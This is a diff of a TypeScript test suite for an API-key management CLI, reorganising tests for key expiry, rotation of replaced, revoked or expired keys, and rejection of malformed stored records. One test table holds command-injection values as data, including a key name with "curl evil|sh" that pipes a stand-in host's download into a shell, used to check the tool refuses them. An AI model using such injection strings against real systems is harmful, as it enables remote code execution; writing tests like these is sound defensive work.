@@ -34,8 +34,6 @@ test('create prints a key alone, and passes only its hash on', async () => {
 });
 
 test.each([
-  ['90d', '2027-05-01T00:00:00.000Z'],
-  ['24h', '2027-02-01T00:00:00.000Z'],
   ['15m', '2027-01-31T00:15:00.000Z'],
   ['99999d', '2300-11-15T00:00:00.000Z'],
 ])('create --read-only --expires %s limits a key', async (duration, expiresAt) => {
@@ -126,13 +124,6 @@ test('a rotated key keeps the label, lifetime, scopes and family of the first on
     { ...next, id, expiresAt: '2027-02-01T00:00:00.000Z', rotatedTo: third?.id },
     { ...next, id: NEW_ID, expiresAt: '2027-05-01T00:00:00.000Z' },
   ]);
-});
-
-test('a key that was rotated is not rotated again', async () => {
-  fake.put({ ...ANNA, rotatedTo: 'key_new' });
-  expect(await errorOf(1, 'rotate key_anna')).toBe(
-    'error: the key key_anna (Anna) was replaced by key_new: rotate that one\n',
-  );
 });
 
 function failPutOf(id: string): void {
@@ -235,19 +226,19 @@ test.each<[title: string, change: object, name?: string, error?: string]>([
   ['an id of 65 characters', { id: 'x'.repeat(65) }],
   ['a family for a shell', { family: '$(x)' }],
   ['a name for a shell', {}, "key:x'; curl evil|sh #\u001b", ODD_NAME],
-])('a record with %s fails each command, and other keys change all the same', async (...row) => {
-  const [, change, name = HASH, error = DELETE] = row;
-  fake.put({ ...ANNA, id: 'key_bob' });
-  fake.put(ANNA);
-  fake.put({ ...ANNA, ...change }, name);
-  const list = await fake.run('list --env staging');
-  const revoke = await fake.run('revoke key_anna --env staging');
-  const rotate = await fake.run('rotate key_bob --env staging');
-  for (const { code, stderr } of [list, revoke, rotate])
-    expect([code, stderr.includes(`: ${error}\n`)]).toEqual([1, true]);
-  const [bob, anna] = fake.values.values();
-  expect([bob, anna]).toEqual([expect.stringContaining('expiresAt'), JSON.stringify(REVOKED)]);
-});
+])(
+  'a record with %s fails each command, and other keys are revoked all the same',
+  async (...row) => {
+    const [, change, name = HASH, error = DELETE] = row;
+    fake.put(ANNA);
+    fake.put({ ...ANNA, ...change }, name);
+    const list = await fake.run('list --env staging');
+    const revoke = await fake.run('revoke key_anna --env staging');
+    for (const { code, stderr } of [list, revoke])
+      expect([code, stderr.includes(`: ${error}\n`)]).toEqual([1, true]);
+    expect(fake.records()[0]).toEqual(REVOKED);
+  },
+);
 
 test('a planted record that is too large for the metadata is revoked, and backups lack it', async () => {
   const planted = { ...ANNA, note: 'x'.repeat(999_999) };
@@ -285,11 +276,12 @@ test('a key that would expire after the year 9999 is not issued', async () => {
 });
 
 test.each([
-  ['revoked', { revokedAt: NOW }],
-  ['expired', { expiresAt: NOW }],
-])('a %s key cannot be rotated', async (state, change) => {
+  ['is revoked', { revokedAt: NOW }],
+  ['is expired', { expiresAt: NOW }],
+  ['was replaced by key_new: rotate that one', { rotatedTo: 'key_new' }],
+])('a key that %s cannot be rotated', async (problem, change) => {
   fake.put({ ...ANNA, ...change });
-  expect(await errorOf(1, 'rotate key_anna')).toBe(`error: the key key_anna (Anna) is ${state}\n`);
+  expect(await errorOf(1, 'rotate key_anna')).toBe(`error: the key key_anna (Anna) ${problem}\n`);
 });
 
 test.each([
